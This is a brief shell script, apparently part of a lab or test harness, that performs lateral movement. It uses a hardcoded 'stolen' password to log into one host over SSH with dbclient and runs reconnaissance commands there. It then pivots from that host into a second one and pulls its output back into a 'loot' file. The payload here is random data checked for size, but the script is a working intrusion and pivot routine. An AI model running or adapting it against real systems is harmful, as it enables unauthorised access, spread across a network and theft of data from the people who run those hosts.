#!/bin/sh
# lateral.sh FIRST SECOND - with one stolen password into FIRST over SSH, from there into SECOND, and back with its data.
export DROPBEAR_PASSWORD=autumn2024
dbclient -y -y "deploy@$1" "id; hostname; netstat -tn" </dev/null || exit 1
# The second step is taken by FIRST: to SECOND it looks like a colleague. Dropbear does not always notice that what it ran has
# ended; so the step has a limit, and what came counts.
dbclient -y -y "deploy@$1" "DROPBEAR_PASSWORD=$DROPBEAR_PASSWORD timeout 60 dbclient -y -y deploy@$2 'id; hostname; head -c 400000 /dev/urandom | base64'" \
  </dev/null >/run/mien/loot
[ "$(wc -c </run/mien/loot)" -gt 500000 ]
